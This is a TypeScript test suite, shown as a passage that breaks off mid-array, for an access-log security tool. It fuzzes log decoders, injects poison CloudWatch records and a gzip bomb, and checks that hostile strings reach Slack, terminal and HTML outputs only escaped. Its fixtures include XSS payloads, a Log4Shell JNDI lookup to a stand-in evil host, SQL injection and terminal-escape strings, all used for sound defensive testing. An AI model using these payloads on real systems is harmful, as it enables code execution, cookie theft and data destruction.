import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import ts from 'typescript';
import { afterAll, describe, expect, it } from 'vitest';
import { parseConfig } from '../../src/config.ts';
import type { Decision } from '../../src/decision.ts';
import { decodeAnyLine, decodeCloudWatchData, decodeKinesisRecordLine, decodeLine, Reason, readAccessLogs, type LineFormat } from '../../src/decode/index.ts';
import { repairBareDashes } from '../../src/decode/json-repair.ts';
import { normaliseIp } from '../../src/net/ip.ts';
import { cloudWatchSource, IngestStage } from '../../src/engine/ingest.ts';
import { decodeSummaryRecord } from '../../src/engine/wire.ts';
import { runReplay } from '../../src/pipeline/replay.ts';
import type { AlertBatch } from '../../src/ports.ts';
import { renderSlackMessage } from '../../src/render/slack.ts';
import { formatDecisionLine, formatTable } from '../../src/render/terminal.ts';
import { CollectingSink, T, T_CLF, apigwLine, apigwRecord, cwlEnvelope, cwlRecordBytes, cwlRecordData, lambdaRecordLine } from '../decode/fixtures.ts';
import { assertEventOrReason } from '../helpers/event-bounds.ts';
import { figures, readJsonl, removeDir, tempDir } from '../helpers/robustness-sim.ts';

/**
 * Hostile input: every decoder fed random and mutated real-looking records (bytes flipped, inserted, deleted,
 * truncated, repeated into huge fields, control characters, NULs, invalid UTF-8, deep JSON, wrong types) never
 * throws and accounts for every record; attacker-controlled strings pushed through the whole local pipeline reach
 * every sink only escaped; and every regex on the hot path runs in bounded time on adversarial input.
 */

const FULL = process.env.CORDON_FULL === '1';
const scale = (n: number): number => (FULL ? n * 5 : n);
const dir = tempDir('hostile');
afterAll(() => removeDir(dir));

const FORMATS: LineFormat[] = ['apigw-json', 'console-json', 'console-clf', 'console-csv', 'console-xml', 'combined'];
const REASONS = new Set<string>(Object.values(Reason));

/** Valid lines of every line format (all read as events), the seeds that mutations start from. */
const SEEDS: string[] = [
  apigwLine(),
  apigwLine({ ip: '2001:db8::17', userArn: 'arn:aws:iam::123456789012:user/alice' }).replace('"responseLength":512', '"responseLength":-'),
  apigwLine({ responseLatency: '-', principalId: 'user-42', status: 403 }).replace('"responseLatency":"-"', '"responseLatency":-'),
  JSON.stringify({ requestId: 'r', ip: '198.51.100.23', caller: '-', user: '-', requestTime: T_CLF, httpMethod: 'GET', resourcePath: '/', status: '200', protocol: 'HTTP/1.1', responseLength: '1' }),
  JSON.stringify({ requestId: 'r', ip: '198.51.100.24', requestTime: T_CLF, httpMethod: 'POST', routeKey: 'POST /orders', status: '201', protocol: 'HTTP/1.1', responseLength: '88' }),
  `198.51.100.23 AIDAEXAMPLE - [${T_CLF}] "GET /items/{id} HTTP/1.1" 200 512 6d4c6b7e-2f7a-4a59-9c0e-3f4f1b2a9c11`,
  `198.51.100.23,AIDAEXAMPLE,-,${T_CLF},GET,/items/{id},HTTP/1.1,200,5,6d4c6b7e`,
  `198.51.100.23,${T_CLF},POST,POST /orders,HTTP/1.1,201,88,Vh2cXFkJIAMEb3Q=`,
  `<request id="x"> <ip>198.51.100.23</ip> <caller>-</caller> <user>-</user> <requestTime>${T_CLF}</requestTime> <httpMethod>GET</httpMethod> <resourcePath>/</resourcePath> <status>200</status> <protocol>HTTP/1.1</protocol> <responseLength>1</responseLength> </request>`,
  `203.0.113.9 - frank [${T_CLF}] "GET /index.html?q=%3Cscript%3E HTTP/1.1" 200 2326 "http://example.com/" "Mozilla/5.0 (X11; Linux x86_64)"`,
  `::ffff:203.0.113.10 - - [${T_CLF}] "POST /login HTTP/1.1" 401 12 "-" "python-requests/2.32.3"`,
];

/** Byte sequences that break parsers: NUL, ESC ]0; (terminal title), CR, LF, bidi override, invalid UTF-8, BOM. */
const NASTY: number[][] = [
  [0x00], [0x1b, 0x5d, 0x30, 0x3b], [0x07], [0x0d], [0x0a], [0xe2, 0x80, 0xae], [0xff], [0xfe], [0xc3], [0x80], [0xed, 0xa0, 0x80],
  [0xf4, 0x90, 0x80, 0x80], [0xef, 0xbb, 0xbf], [0x22], [0x5c], [0x2d], [0x2c], [0x5b], [0x5d], [0x7b], [0x7d], [0x3c], [0x3e],
  [0x20], [0x3a], [0x2e], [0x39],
];

type Mutation =
  | { kind: 'flip'; at: number; bit: number }
  | { kind: 'insert'; at: number; bytes: number[] }
  | { kind: 'delete'; at: number; length: number }
  | { kind: 'truncate'; at: number }
  | { kind: 'repeat'; at: number; length: number; times: number }
  | { kind: 'huge'; at: number; byte: number; n: number }
  | { kind: 'json'; field: string; value: unknown }
  | { kind: 'nest'; field: string; depth: number };

const FIELDS = ['ip', 'status', 'requestTimeEpoch', 'requestTime', 'path', 'userAgent', 'responseLength', 'responseLatency', 'userArn', 'principalId', 'httpMethod', 'routeKey'];

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constant('flip' as const), at: fc.nat(), bit: fc.integer({ min: 0, max: 7 }) }),
  fc.record({ kind: fc.constant('insert' as const), at: fc.nat(), bytes: fc.oneof(fc.constantFrom(...NASTY), fc.array(fc.integer({ min: 0, max: 255 }), { maxLength: 8 })) }),
  fc.record({ kind: fc.constant('delete' as const), at: fc.nat(), length: fc.integer({ min: 1, max: 40 }) }),
  fc.record({ kind: fc.constant('truncate' as const), at: fc.nat() }),
  fc.record({ kind: fc.constant('repeat' as const), at: fc.nat(), length: fc.integer({ min: 1, max: 8 }), times: fc.integer({ min: 2, max: 2000 }) }),
  fc.record({ kind: fc.constant('huge' as const), at: fc.nat(), byte: fc.constantFrom(0x41, 0x22, 0x5c, 0x20, 0x2d, 0x2c, 0x3a, 0x00, 0xff), n: fc.integer({ min: 1000, max: 60_000 }) }),
  fc.record({
    kind: fc.constant('json' as const),
    field: fc.constantFrom(...FIELDS),
    value: fc.oneof(fc.jsonValue({ maxDepth: 3 }), fc.constantFrom(-1, 1e308, -0, 0.5, 1e21, '', '-', null, true, [], {}, 'NaN', '1e3', '0x10', ' 200', '２００')),
  }),
  fc.record({ kind: fc.constant('nest' as const), field: fc.constantFrom(...FIELDS), depth: fc.integer({ min: 10, max: 20_000 }) }),
);

function applyMutation(line: Buffer, m: Mutation): Buffer {
  const at = line.length === 0 ? 0 : m.kind === 'json' || m.kind === 'nest' ? 0 : m.at % (line.length + 1);
  switch (m.kind) {
    case 'flip': {
      if (line.length === 0) return line;
      const out = Buffer.from(line);
      out[at % line.length] ^= 1 << m.bit;
      return out;
    }
    case 'insert':
      return Buffer.concat([line.subarray(0, at), Buffer.from(m.bytes), line.subarray(at)]);
    case 'delete':
      return Buffer.concat([line.subarray(0, at), line.subarray(at + m.length)]);
    case 'truncate':
      return line.subarray(0, at);
    case 'repeat': {
      const piece = line.subarray(at, at + m.length);
      return Buffer.concat([line.subarray(0, at), ...Array.from({ length: m.times }, () => piece), line.subarray(at + m.length)]);
    }
    case 'huge':
      return Buffer.concat([line.subarray(0, at), Buffer.alloc(m.n, m.byte), line.subarray(at)]);
    case 'json':
    case 'nest': {
      let record: Record<string, unknown>;
      try {
        record = JSON.parse(line.toString('utf8')) as Record<string, unknown>;
      } catch {
        return line;
      }
      if (typeof record !== 'object' || record === null) return line;
      try {
        if (m.kind === 'json') return Buffer.from(JSON.stringify({ ...record, [m.field]: m.value }), 'utf8');
        const text = JSON.stringify({ ...record, [m.field]: 0 });
        return Buffer.from(text.replace(`"${m.field}":0`, `"${m.field}":${'['.repeat(m.depth)}${']'.repeat(m.depth)}`), 'utf8');
      } catch {
        return line; // JSON.stringify of an already deep-nested record overflows the stack: keep the line as it is
      }
    }
  }
}

/** A real-looking line, mutated at the byte level (so invalid UTF-8 really is invalid). */
const mutatedLine: fc.Arbitrary<Buffer> = fc
  .record({ seed: fc.constantFrom(...SEEDS), mutations: fc.array(mutation, { minLength: 1, maxLength: 4 }) })
  .map(({ seed, mutations }) => mutations.reduce(applyMutation, Buffer.from(seed, 'utf8')));

const randomLine: fc.Arbitrary<Buffer> = fc.oneof(
  fc.uint8Array({ maxLength: 400 }).map((a) => Buffer.from(a)),
  fc.string({ unit: 'binary', maxLength: 400 }).map((s) => Buffer.from(s, 'utf8')),
  fc.jsonValue({ maxDepth: 4 }).map((v) => Buffer.from(JSON.stringify(v) ?? 'null', 'utf8')),
);

const anyLine = fc.oneof({ weight: 3, arbitrary: mutatedLine }, { weight: 1, arbitrary: randomLine }, { weight: 1, arbitrary: fc.constantFrom(...SEEDS).map((s) => Buffer.from(s)) });

/** Non-blank lines of a file's bytes, as the reader splits them (LF, one trailing CR dropped, UTF-8 with U+FFFD). */
function recordsIn(bytes: Buffer): number {
  let n = 0;
  let from = 0;
  while (from <= bytes.length) {
    let nl = bytes.indexOf(0x0a, from);
    if (nl < 0) nl = bytes.length;
    let seg = bytes.subarray(from, nl);
    if (seg.length && seg[seg.length - 1] === 0x0d) seg = seg.subarray(0, seg.length - 1);
    const text = seg.toString('utf8');
    if (!(text.length === 0 || (text.charCodeAt(0) <= 32 && text.trim() === ''))) n++;
    from = nl + 1;
  }
  return n;
}

let fileSeq = 0;
function writeTemp(content: Buffer | string, ext = '.log'): string {
  const path = join(dir, `f${fileSeq++}${ext}`);
  writeFileSync(path, content);
  return path;
}

describe('every decoder on random and mutated input', () => {
  it('line decoders: never throw, every result an in-bounds event or a known reason', () => {
    let lines = 0;
    let events = 0;
    let maxChars = 0;
    fc.assert(
      fc.property(anyLine, (bytes) => {
        for (const text of [bytes.toString('utf8'), bytes.toString('latin1')]) {
          lines++;
          maxChars = Math.max(maxChars, text.length);
          for (const format of FORMATS) {
            const r = decodeLine(text, format);
            assertEventOrReason(r);
            if (typeof r !== 'string') events++;
          }
          assertEventOrReason(decodeAnyLine(text));
          repairBareDashes(text);
        }
      }),
      { numRuns: scale(1500) },
    );
    figures('line decoders', { inputsFuzzed: lines, decodes: lines * (FORMATS.length + 1), events, longestLineChars: maxChars });
    expect(events).toBeGreaterThan(0); // the mutated seeds do reach the event path
  });

  it('readAccessLogs: events + unreadable = records fed, for plain and gzip files of mutated lines', async () => {
    let files = 0;
    let fed = 0;
    let read = 0;
    let unreadable = 0;
    await fc.assert(
      fc.asyncProperty(fc.array(anyLine, { minLength: 1, maxLength: 30 }), fc.boolean(), async (lines, gzip) => {
        const plain = Buffer.concat(lines.flatMap((l) => [l, Buffer.from('\n')]));
        const path = writeTemp(gzip ? gzipSync(plain) : plain);
        const sink = new CollectingSink();
        const stats = await readAccessLogs([path], sink);
        const records = recordsIn(plain);
        expect(stats.events + stats.unreadable).toBe(records);
        expect(sink.events.length).toBe(stats.events);
        expect(sink.rejects.length).toBe(stats.unreadable);
        sink.events.forEach(assertEventOrReason);
        for (const u of sink.rejects) {
          expect(REASONS.has(u.reason)).toBe(true);
          expect(u.excerpt.length).toBeLessThanOrEqual(121);
          expect(u.excerpt).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
        }
        files++;
        fed += records;
        read += stats.events;
        unreadable += stats.unreadable;
      }),
      { numRuns: scale(120) },
    );
    figures('readAccessLogs accounting', { filesFuzzed: files, recordsFed: fed, events: read, unreadable, invariantsChecked: files * 3 });
    expect(read + unreadable).toBe(fed);
  });

  it('readAccessLogs: a line over the 8 MiB limit is one unreadable record, its neighbours are read', async () => {
    const huge = '{"ip":"203.0.113.7","path":"' + 'A'.repeat(9 * 1024 * 1024) + '"}';
    const path = writeTemp([SEEDS[0], huge, SEEDS[0], SEEDS[1]].join('\n') + '\n');
    const stats = await readAccessLogs([path], new CollectingSink());
    figures('line too long', { recordsFed: 4, events: stats.events, unreadable: stats.unreadable, hugeLineChars: huge.length });
    expect([stats.events, stats.unreadable, stats.byReason[Reason.lineTooLong]]).toEqual([3, 1, 1]);
  });

  it('readAccessLogs: a corrupted or truncated gzip file keeps what was read and counts the damage once', async () => {
    const lines = Array.from({ length: 400 }, (_, i) => SEEDS[i % SEEDS.length]);
    const plain = Buffer.from(lines.join('\n') + '\n');
    const good = gzipSync(plain);
    let corrupted = 0;
    let intact = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.record({ kind: fc.constant('flip' as const), at: fc.integer({ min: 0, max: good.length - 1 }), bit: fc.integer({ min: 0, max: 7 }) }),
          fc.record({ kind: fc.constant('truncate' as const), at: fc.integer({ min: 0, max: good.length - 1 }), bit: fc.constant(0) }),
        ),
        async ({ kind, at, bit }) => {
          const bytes = Buffer.from(good);
          if (kind === 'flip') bytes[at] ^= 1 << bit;
          const written = kind === 'flip' ? bytes : bytes.subarray(0, at);
          const path = writeTemp(written, '.gz');
          const stats = await readAccessLogs([path], new CollectingSink());
          const damage = (stats.byReason[Reason.fileCorruptGzip] ?? 0) + (stats.byReason[Reason.fileReadError] ?? 0);
          // A truncated stream holds a prefix of the lines. (A flipped bit can change the text before the CRC check
          // at the end of the stream catches it: what was decoded by then stays decoded, as with any stream.)
          if (kind === 'truncate') expect(stats.events).toBeLessThanOrEqual(lines.length);
          if (damage === 0) {
            // Undamaged means intact: the flip hit a bit gzip and deflate ignore (FTEXT, mtime, XFL, OS, padding),
            // and every line was read. Or the magic is gone (cut below two bytes, a magic byte flipped) and the
            // file is plain binary text, every line of it accounted for.
            const isGzip = written.length >= 2 && written[0] === 0x1f && written[1] === 0x8b;
            if (isGzip) expect([stats.events, stats.unreadable], `undetected ${kind} at byte ${at}`).toEqual([lines.length, 0]);
            else expect(stats.events + stats.unreadable).toBe(recordsIn(written));
            intact++;
          } else {
            expect(damage).toBe(1);
            corrupted++;
          }
        },
      ),
      { numRuns: scale(60) },
    );
    figures('gzip faults', { faultsInjected: corrupted + intact, countedAsCorrupt: corrupted, readAnyway: intact });
    expect(corrupted).toBeGreaterThan(0);
  });

  it('Kinesis record lines (mutated): never throw; an unmutated record yields all of its events', () => {
    const messages = SEEDS.slice(0, 6);
    const good = lambdaRecordLine(cwlRecordData(cwlEnvelope(messages)), 1);
    const bare = JSON.stringify({ data: cwlRecordData(cwlEnvelope(messages)) });
    const envelope = JSON.stringify(cwlEnvelope(messages));
    let runs = 0;
    fc.assert(
      fc.property(fc.constantFrom(good, bare, envelope), fc.array(mutation, { maxLength: 3 }), (seed, mutations) => {
        const line = mutations.reduce(applyMutation, Buffer.from(seed)).toString('utf8');
        const sink = new CollectingSink();
        decodeKinesisRecordLine(line, sink, { source: 'fuzz', line: 1 });
        sink.events.forEach(assertEventOrReason);
        for (const u of sink.rejects) expect(REASONS.has(u.reason)).toBe(true);
        expect(sink.events.length + sink.rejects.length).toBeGreaterThan(0);
        if (mutations.length === 0) expect(sink.events.length).toBe(messages.length);
        runs++;
      }),
      { numRuns: scale(300) },
    );
    figures('kinesis record lines', { inputsFuzzed: runs });
  });
});

// ---------------------------------------------------------------------------------------------------------------
// CloudWatch Logs batches with poison records
// ---------------------------------------------------------------------------------------------------------------

/** 17 MiB of spaces in ~17 KiB of gzip: decompresses past the 16 MiB envelope limit. */
const GZIP_BOMB = gzipSync(Buffer.alloc(17 * 1024 * 1024, 0x20));

type Poison =
  | { kind: 'random-bytes'; bytes: Uint8Array }
  | { kind: 'random-text'; text: string }
  | { kind: 'gzip-json'; value: unknown }
  | { kind: 'truncated'; cut: number }
  | { kind: 'flipped'; at: number; bit: number }
  | { kind: 'bomb' }
  | { kind: 'deep' }
  | { kind: 'bad-events'; events: unknown[] }
  | { kind: 'unknown-type' };

const poison: fc.Arbitrary<Poison> = fc.oneof(
  fc.record({ kind: fc.constant('random-bytes' as const), bytes: fc.uint8Array({ minLength: 1, maxLength: 300 }) }),
  fc.record({ kind: fc.constant('random-text' as const), text: fc.string({ unit: 'binary', minLength: 1, maxLength: 300 }) }),
  fc.record({ kind: fc.constant('gzip-json' as const), value: fc.jsonValue({ maxDepth: 3 }) }),
  fc.record({ kind: fc.constant('truncated' as const), cut: fc.integer({ min: 1, max: 200 }) }),
  fc.record({ kind: fc.constant('flipped' as const), at: fc.nat(), bit: fc.integer({ min: 0, max: 7 }) }),
  fc.constant({ kind: 'bomb' as const }),
  fc.constant({ kind: 'deep' as const }),
  fc.record({
    kind: fc.constant('bad-events' as const),
    events: fc.array(fc.oneof(fc.constant(null), fc.constant(7), fc.record({ message: fc.oneof(fc.integer(), fc.constant(null), fc.constant({})) }), fc.record({ id: fc.string() })), { minLength: 1, maxLength: 5 }),
  }),
  fc.constant({ kind: 'unknown-type' as const }),
);

function poisonBytes(p: Poison, template: Buffer): { data: Buffer | string; unreadable: number } {
  switch (p.kind) {
    case 'random-bytes':
      return { data: Buffer.from(p.bytes), unreadable: 1 };
    case 'random-text':
      return { data: p.text, unreadable: 1 };
    case 'gzip-json': {
      const v = p.value;
      // A JSON object with a logEvents array would be an envelope: count its events as bad ones.
      const events = typeof v === 'object' && v !== null && !Array.isArray(v) && Array.isArray((v as { logEvents?: unknown }).logEvents)
        ? ((v as { logEvents: unknown[] }).logEvents.length) : 1;
      const typed = typeof v === 'object' && v !== null && (v as { messageType?: unknown }).messageType === 'CONTROL_MESSAGE';
      return { data: gzipSync(Buffer.from(JSON.stringify(v) ?? 'null')), unreadable: typed ? 0 : Math.max(events, 0) };
    }
    case 'truncated':
      return { data: template.subarray(0, Math.max(0, template.length - p.cut)), unreadable: 1 };
    case 'flipped': {
      // Inside the deflate body or the trailer (not the header's unchecked mtime/OS bytes): detected, except a flip of
      // the padding bits after the last deflate block, which no inflater reads (the same content comes out, CRC and
      // all). Such a flip is no damage: the CRC's own first byte is flipped instead, which always is.
      const out = Buffer.from(template);
      const at = 10 + (p.at % (out.length - 10));
      out[at] ^= 1 << p.bit;
      if (inflatesAlike(out, template)) {
        out[at] ^= 1 << p.bit;
        out[out.length - 8] ^= 1 << p.bit;
      }
      return { data: out, unreadable: 1 };
    }
    case 'bomb':
      return { data: GZIP_BOMB, unreadable: 1 };
    case 'deep':
      return { data: gzipSync(`{"messageType":"DATA_MESSAGE","logEvents":${'['.repeat(100_000)}${']'.repeat(100_000)}}`), unreadable: 1 };
    case 'bad-events':
      return { data: cwlRecordBytes({ ...cwlEnvelope([]), logEvents: p.events }), unreadable: p.events.length };
    case 'unknown-type':
      return { data: cwlRecordBytes(cwlEnvelope([SEEDS[0]], 'MYSTERY_MESSAGE')), unreadable: 1 };
  }
}

/** Whether `a` inflates, to what `b` inflates to. */
function inflatesAlike(a: Buffer, b: Buffer): boolean {
  try {
    return gunzipSync(a).equals(gunzipSync(b));
  } catch {
    return false;
  }
}

describe('a CloudWatch Logs batch with poison records still yields every good record', () => {
  it('decodeCloudWatchData record by record, and the ingest stage over the batch: good events all arrive, summaries add up', async () => {
    const template = cwlRecordBytes(cwlEnvelope(SEEDS));
    let batches = 0;
    let poisonFed = 0;
    let goodEvents = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.oneof({ weight: 2, arbitrary: fc.integer({ min: 1, max: 20 }).map((n) => ({ good: n })) }, { weight: 3, arbitrary: poison.map((p) => ({ poison: p })) }), { minLength: 1, maxLength: 12 }),
        fc.boolean(),
        async (items, base64) => {
          const records: { sequenceNumber: string; data: string | Buffer; expectEvents: number; expectUnreadable: number }[] = items.map((item, i) => {
            if ('good' in item) {
              const messages = Array.from({ length: item.good }, (_, j) => SEEDS[(i + j) % SEEDS.length]);
              return { sequenceNumber: String(i), data: cwlRecordBytes(cwlEnvelope(messages)), expectEvents: messages.length, expectUnreadable: 0 };
            }
            const p = poisonBytes(item.poison, template);
            return { sequenceNumber: String(i), data: p.data, expectEvents: 0, expectUnreadable: p.unreadable };
          });
          const expectedEvents = records.reduce((n, r) => n + r.expectEvents, 0);
          // 1. Record by record, as the decoder sees them (raw bytes, or base64 text as a Lambda event carries them).
          for (const r of records) {
            const sink = new CollectingSink();
            const data = base64 && typeof r.data !== 'string' ? r.data.toString('base64') : r.data;
            decodeCloudWatchData(data, sink);
            sink.events.forEach(assertEventOrReason);
            expect(sink.events.length, `record ${r.sequenceNumber}`).toBe(r.expectEvents);
            if (r.expectEvents === 0 && r.expectUnreadable > 0) expect(sink.rejects.length).toBeGreaterThanOrEqual(1);
          }
          // 2. The ingest stage over the whole batch: nothing fails, every good event is in the summaries.
          const put: Uint8Array[] = [];
          const ingest = new IngestStage({ putter: { put: async (rs) => { put.push(...rs.map((x) => x.data)); } }, config: parseConfig({}) });
          const res = await ingest.handle(records.map((r) => cloudWatchSource({
            sequenceNumber: r.sequenceNumber, shardId: 'shardId-000000000000',
            data: typeof r.data === 'string' ? Buffer.from(r.data, 'latin1').toString('base64') : r.data.toString('base64'),
          })));
          expect(res.batchItemFailures).toEqual([]);
          expect(res.events).toBe(expectedEvents);
          const summed = put.flatMap((d) => decodeSummaryRecord(d)).reduce((n, p) => n + p.n, 0);
          expect(summed).toBe(expectedEvents);
          batches++;
          poisonFed += records.filter((r) => r.expectEvents === 0).length;
          goodEvents += expectedEvents;
        },
      ),
      { numRuns: scale(60) },
    );
    figures('poison batches', { batches, poisonRecordsInjected: poisonFed, goodEventsDelivered: goodEvents });
    expect(poisonFed).toBeGreaterThan(0);
  });
});

// ---------------------------------------------------------------------------------------------------------------
// Attacker-controlled strings through the whole local pipeline
// ---------------------------------------------------------------------------------------------------------------

/** Strings built to break a sink: markup, Slack mentions and links, terminal escapes, CR, bidi, backticks. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(document.cookie)>',
  '<!channel> <!here> <@U024BE7LH> <https://evil.example/login|click here>',
  '\u001b]0;pwned\u0007\u001b[2J\u001b[31mRED',
  'line\roverwritten\nnext',
  '\u202egnp.exe\u202c \u2066isolate\u2069 \u200bzero\u200dwidth \ufeffbom',
  '`code` *bold* _it_ ~strike~ > quote &amp; &lt;',
  '\u0000nul\u007fdel\u0085nel\u009bcsi',
  '${jndi:ldap://evil.example/a} {{7*7}} \'; DROP TABLE x; --',
  '\ud800lone-surrogate \udfff',
];

const hostilePath = (i: number): string => `/${HOSTILE[i % HOSTILE.length]}/${i}`;
const hostileAgent = (i: number): string => `Mozilla/5.0 ${HOSTILE[(i * 7) % HOSTILE.length]}`;
const HOSTILE_PRINCIPAL = 'arn:aws:iam::123456789012:user/<script>x</script><!channel>\u001b]0;t\u0007\r\u202eevil';

/**
 * An access log where decisions carry hostile samples: 60 ordinary clients, then a flood whose agents are hostile,
 * a scanner whose 404 paths and agents are hostile, a principal with a hostile name used from 14 addresses, and a
 * few unreadable lines full of escapes.
 */
function hostileLog(): string {
  const lines: { t: number; line: string }[] = [];
  const add = (t: number, over: Record<string, unknown>) => lines.push({ t, line: apigwLine({ requestTimeEpoch: t, ...over }) });
  const MIN = 60_000;
  for (let c = 0; c < 60; c++) {
    for (let t = T + c * 101; t < T + 15 * MIN; t += 6000) add(t, { ip: `198.51.100.${c + 10}`, path: `/prod/items/${c}` });
  }
  for (let i = 0, t = T + 6 * MIN; t < T + 9 * MIN; t += 30, i++) add(t, { ip: '203.0.113.66', path: '/prod/search', userAgent: hostileAgent(i) });
  for (let i = 0, t = T + 8 * MIN; t < T + 13 * MIN; t += 250, i++) add(t, { ip: '203.0.113.77', path: hostilePath(i), status: 404, userAgent: hostileAgent(i + 3) });
  for (let i = 0, t = T + 10 * MIN; t < T + 15 * MIN; t += 400, i++) add(t, { ip: `192.0.2.${(i % 14) + 1}`, userArn: HOSTILE_PRINCIPAL, path: '/prod/users/1' });
  lines.sort((a, b) => a.t - b.t);
  const out = lines.map((l) => l.line);
  for (const h of HOSTILE) out.splice(Math.floor(out.length / 2), 0, `${h} GET / HTTP/1.1`);
  return out.join('\n') + '\n';
}

const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

/** Every string in a JSON value. */
function strings(v: unknown, out: string[] = []): string[] {
  if (typeof v === 'string') out.push(v);
  else if (Array.isArray(v)) v.forEach((x) => strings(x, out));
  else if (typeof v === 'object' && v !== null) Object.values(v).forEach((x) => strings(x, out));
  return out;
}

/** The tag names the report's own templates use (from its source), so nothing else may appear. */
function reportOwnTags(): Set<string> {
  const names = new Set<string>();
  for (const f of ['html.ts', 'chart.ts']) {
    const src = readFileSync(new URL(`../../src/report/${f}`, import.meta.url), 'utf8');
    for (const m of src.matchAll(/<\/?([a-z][a-z0-9]*)/g)) names.add(m[1]);
  }
  return names;
}

describe('attacker-controlled strings reach every sink only escaped', () => {
  it('alerts.jsonl, report.html, Slack and the terminal line after a replay of a hostile log', async () => {
    const out = join(dir, 'replay');
    const input = writeTemp(hostileLog(), '.jsonl');
    const summary = await runReplay({ files: [input], outDir: out, config: parseConfig({}) });
    const decisions = readJsonl<Decision>(join(out, 'decisions.jsonl'));
    const alertLines = readFileSync(join(out, 'alerts.jsonl'), 'utf8').split('\n').filter((l) => l !== '');
    const batches = alertLines.map((l) => JSON.parse(l) as AlertBatch);

    // The hostile strings really are in the decisions (else this test would prove nothing).
    const blocked = decisions.filter((d) => d.action === 'block').map((d) => d.target);
    expect(blocked).toEqual(expect.arrayContaining(['203.0.113.66', '203.0.113.77']));
    // The hostile "ARN" is no IAM principal a policy can name: decided, and alerted as not enforced.
    expect(decisions.filter((d) => d.target === HOSTILE_PRINCIPAL).map((d) => [d.action, d.evidence.notEnforced]))
      .toEqual([['alert', 'no resource policy could hold it']]);
    const carried = strings(decisions.map((d) => [d.target, d.evidence.samples]));
    const rawMarkers = ['<script>', '<!channel>', '\u001b]0;', '\r', '\u202e', 'onerror='];
    for (const m of rawMarkers) expect(carried.some((s) => s.includes(m)), `decisions carry ${JSON.stringify(m)}`).toBe(true);
    expect(summary.linesUnreadable).toBe(HOSTILE.join('\n').split('\n').length); // one holds a line feed
    expect(summary.late.dropped).toBe(0); // every readable event reached a window

    // alerts.jsonl: one valid JSON batch a line, each line free of raw line breaks.
    expect(batches.length).toBeGreaterThan(0);
    for (const l of alertLines) expect(l).not.toMatch(/[\r\n]/);

    // Slack: no Slack control sequence, link or mention from input; control characters only as visible escapes;
    // every hostile value inside an inline-code span.
    let slackTexts = 0;
    for (const batch of batches) {
      const message = renderSlackMessage(batch);
      for (const s of strings(message)) {
        slackTexts++;
        expect(s).not.toMatch(/<[!@#]|<https?:|<mailto:/);
        expect(s).not.toContain('<');
        expect(s).not.toMatch(CONTROL);
        expect(s).not.toContain('\r');
        for (const piece of s.split('`').filter((_, i) => i % 2 === 0)) {
          expect(piece, 'hostile text outside inline code').not.toMatch(/&lt;!channel|&lt;script|onerror=/);
        }
      }
    }

    // Terminal: the decision line and the blocks table print no raw control or bidi character.
    const terminal = [...decisions.map(formatDecisionLine), formatTable([['target', 'reasons'], ...decisions.map((d) => [d.target, d.reasons.join(',')])])];
    for (const line of terminal) {
      expect(line.replaceAll('\n', '')).not.toMatch(CONTROL);
      expect(line).not.toContain('\r');
    }
    expect(terminal.join('\n')).toContain('\\u001b'); // the escape is shown, not executed

    // Report: only the report's own tags, no event-handler attribute, no control characters; the hostile text is
    // there, escaped.
    const html = readFileSync(join(out, 'report.html'), 'utf8');
    const own = reportOwnTags();
    const tags = [...html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9-]*)([^>]*)>/g)];
    const foreign = tags.map((m) => m[1].toLowerCase()).filter((n) => !own.has(n));
    expect(foreign, 'tags not from the report template').toEqual([]);
    expect(tags.filter((m) => /\son[a-z]+\s*=/i.test(m[2])).map((m) => m[0])).toEqual([]);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/javascript:/i);
    expect(html).not.toMatch(CONTROL);
    expect(html).toContain('&lt;script&gt;');

    figures('hostile strings end to end', {
      hostileStrings: HOSTILE.length, events: summary.events, unreadable: summary.linesUnreadable, decisions: decisions.length,
      alertBatches: batches.length, slackTextsChecked: slackTexts, terminalLines: terminal.length, reportTags: tags.length,
    });
  });
});

// ---------------------------------------------------------------------------------------------------------------
// ReDoS: every regex on the hot path, in bounded time on adversarial input
// ---------------------------------------------------------------------------------------------------------------

interface FoundRegex {
  file: string;
  line: number;
  source: string;
  regex: RegExp | null;
}

/** Regex literals and RegExp constructions in the TypeScript files of `folders` (found with the TS parser). */
function regexesIn(folders: string[]): FoundRegex[] {
  const found: FoundRegex[] = [];
  for (const folder of folders) {
    const abs = new URL(`../../${folder}/`, import.meta.url);
    for (const name of readdirSync(abs, { recursive: true }) as string[]) {
      if (!name.endsWith('.ts')) continue;
      const file = `${folder}/${name}`;
      const text = readFileSync(new URL(name, abs), 'utf8');
      const sf = ts.createSourceFile(file, text, ts.ScriptTarget.ES2022, true);
      const visit = (node: ts.Node): void => {
        if (node.kind === ts.SyntaxKind.RegularExpressionLiteral) {
          const lit = node.getText(sf);
          const slash = lit.lastIndexOf('/');
          found.push({ file, line: sf.getLineAndCharacterOfPosition(node.getStart(sf)).line + 1, source: lit, regex: new RegExp(lit.slice(1, slash), lit.slice(slash + 1)) });
        } else if ((ts.isNewExpression(node) || ts.isCallExpression(node)) && node.expression.getText(sf) === 'RegExp') {
          found.push({ file, line: sf.getLineAndCharacterOfPosition(node.getStart(sf)).line + 1, source: node.getText(sf), regex: null });
        }
        ts.forEachChild(node, visit);
      };
      visit(sf);
    }
  }
  return found;
}

const N = 50_000;
/** Runs of the characters regexes and hand parsers care about, each ending in a character that makes them fail. */
const ADVERSARIAL: string[] = [
  ...['a', 'A', '0', '1', '9', 'f', ':', '.', '/', '-', '_', ' ', '\t', '"', '\\', '<', '>', '&', '`', ',', '[', ']', '{', '}', '%', '@', '=', '+', '\u0000', '\u001b', 'é', '\u202e', '😀']
    .map((c) => c.repeat(Math.ceil(N / c.length)) + '!'),
